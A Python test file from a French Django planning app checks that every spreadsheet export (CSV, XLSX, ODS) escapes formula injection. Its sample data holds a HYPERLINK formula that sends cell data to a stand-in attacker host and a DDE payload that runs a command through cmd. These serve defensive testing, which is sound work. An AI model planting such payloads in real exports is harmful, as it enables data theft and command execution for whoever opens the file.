"""No export of the app lets a spreadsheet run a formula typed by a user (issue 13).

Titles, names, free texts and figures of the demo CTG are made hostile ("=HYPERLINK(…)", "=1+1",
"-1+1", "@…", a tab, a carriage return, full-width "＝"…); every CSV, XLSX and ODS the app
offers is downloaded and read back: no text cell may start like a formula, each hostile text comes
back after its apostrophe, and numbers (a negative one too) stay numbers.
"""

import csv
import io
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import openpyxl
import pytest
from django.urls import reverse

from pilote.accounts.models import Organisation
from pilote.core.formulas import FORMULA_START, needs_guard
from pilote.facilities.enums import AreaKind, FigureKind
from pilote.facilities.models import Facility, Schema, TerritoryFigure
from pilote.monitoring.models import ActionUpdate
from pilote.plans.models import PlanNode

from .conftest import PAA

pytestmark = pytest.mark.django_db

HOSTILE = {
    "ctg": '=HYPERLINK("http://attaquant.example/?d="&A1,"Voir le plan")',
    "axis": "@SUM(1+1)*cmd|' /C calc'!A0",
    "action": "=1+1",
    "done": "+33 6 12 34 56 78",
    "pilot": "\t=2+5",
    "facility": "－1+1",
    "notes": "\r=1+1",
    "figure": "＝1+1",
    "source": "＠SUM(A1)",
    "schema": "-1+1",
}
NEGATIVE = Decimal("-12.5")
ODF = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


@pytest.fixture
def hostile(paa):
    """Write the hostile texts into the demo CTG of seed 003."""
    paa.name = HOSTILE["ctg"]
    paa.save(update_fields=["name"])
    axis = PlanNode.objects.filter(convention=paa, parent=None).order_by("position").first()
    PlanNode.objects.filter(pk=axis.pk).update(title=HOSTILE["axis"])
    update = ActionUpdate.objects.filter(convention=paa).order_by("-pk").first()
    ActionUpdate.objects.filter(pk=update.pk).update(done=HOSTILE["done"])
    PlanNode.objects.filter(pk=update.node_id).update(title=HOSTILE["action"])
    PlanNode.objects.get(pk=update.node_id).pilots.add(
        Organisation.objects.create(name=HOSTILE["pilot"])
    )
    facility = Facility.objects.filter(convention=paa).first()
    Facility.objects.filter(pk=facility.pk).update(name=HOSTILE["facility"], notes=HOSTILE["notes"])
    TerritoryFigure.objects.create(
        convention=paa,
        area_kind=AreaKind.COMMUNE,
        area_code="04070",
        area_name="Digne-les-Bains",
        kind=FigureKind.OTHER,
        label=HOSTILE["figure"],
        year=2025,
        value=NEGATIVE,
        source=HOSTILE["source"],
    )
    schema = Schema.objects.filter(convention=paa).first()
    schema.lines.filter(pk=schema.lines.first().pk).update(label=HOSTILE["schema"])
    return {"schema": schema}


def _urls(schema: Schema) -> list[str]:
    slug = {"slug": PAA}
    urls = [
        reverse(f"reports:{table}_{extension}", kwargs=slug)
        for table in ("plan", "suivi")
        for extension in ("xlsx", "ods", "csv")
    ]
    urls += [
        reverse("reports:opendata", kwargs=slug),
        reverse("reports:opendata_all"),
        reverse("monitoring:followup_export", kwargs=slug),
        reverse("facilities:register_export", kwargs=slug) + "?format=csv",
        reverse("facilities:register_export", kwargs=slug) + "?format=xlsx",
        reverse("facilities:register_template", kwargs=slug),
        reverse("facilities:figures_export_csv", kwargs=slug),
        reverse("facilities:figures_export_xlsx", kwargs=slug),
        reverse("facilities:schema_export_xlsx", kwargs={**slug, "pk": schema.pk}),
        reverse("imports:template", kwargs=slug),
    ]
    return urls


def _csv_cells(content: bytes) -> list:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    return [cell for row in rows for cell in row]


def _xlsx_cells(content: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                cells.append(cell.value)
    return cells


def _ods_cells(content: bytes) -> list:
    content_xml = zipfile.ZipFile(io.BytesIO(content)).read("content.xml")
    root = ElementTree.fromstring(content_xml)  # noqa: S314 (the file the app just wrote)
    cells = []
    for cell in root.iter(f"{{{ODF['table']}}}table-cell"):
        assert f"{{{ODF['table']}}}formula" not in cell.attrib
        if cell.get(f"{{{ODF['office']}}}value-type") == "float":
            cells.append(Decimal(cell.get(f"{{{ODF['office']}}}value")))
            continue
        paragraphs = cell.findall(f"{{{ODF['text']}}}p")
        if paragraphs:
            cells.append("\n".join("".join(p.itertext()) for p in paragraphs))
    return cells


def _cells(response) -> list:
    kind = response["Content-Type"]
    if kind.startswith("text/csv"):
        return _csv_cells(response.content)
    if "spreadsheetml" in kind:
        return _xlsx_cells(response.content)
    assert "opendocument.spreadsheet" in kind, kind
    return _ods_cells(response.content)


def test_every_export_writes_hostile_texts_after_an_apostrophe(client, demo_user, hostile):
    client.force_login(demo_user("cooperation.paa"))
    seen: set[str] = set()

    for url in _urls(hostile["schema"]):
        response = client.get(url)
        assert response.status_code == 200, url
        cells = _cells(response)
        texts = [cell for cell in cells if isinstance(cell, str)]
        unguarded = [text for text in texts if needs_guard(text)]
        assert unguarded == [], url
        guarded = {text[1:] for text in texts if text.startswith("'")}
        found = {name for name, value in HOSTILE.items() if any(value in t for t in guarded)}
        assert found, f"{url}: no hostile text found, the test reads nothing"
        seen |= found

    assert seen == set(HOSTILE)


def test_the_blank_figures_template_holds_no_formula(client, demo_user, hostile):
    client.force_login(demo_user("cooperation.paa"))

    cells = _cells(client.get(reverse("facilities:figures_template", args=[PAA])))

    assert "Commune" in cells or "EPCI" in cells
    assert [cell for cell in cells if isinstance(cell, str) and needs_guard(cell)] == []


def test_a_negative_figure_stays_a_number(client, demo_user, hostile):
    client.force_login(demo_user("cooperation.paa"))

    csv_cells = _csv_cells(client.get(reverse("facilities:figures_export_csv", args=[PAA])).content)
    assert "-12,5" in csv_cells  # a number in a French spreadsheet, not text nor a formula
    xlsx_cells = _xlsx_cells(
        client.get(reverse("facilities:figures_export_xlsx", args=[PAA])).content
    )
    assert -12.5 in xlsx_cells


@pytest.mark.parametrize("start", FORMULA_START)
def test_each_formula_start_is_guarded_in_the_open_data(client, demo_user, paa, start):
    PlanNode.objects.filter(convention=paa, parent=None).update(title=f"{start}1+1")
    client.force_login(demo_user("lecteur.paa"))

    cells = _csv_cells(client.get(reverse("reports:opendata", args=[PAA])).content)

    assert f"'{start}1+1" in cells
    assert f"{start}1+1" not in cells
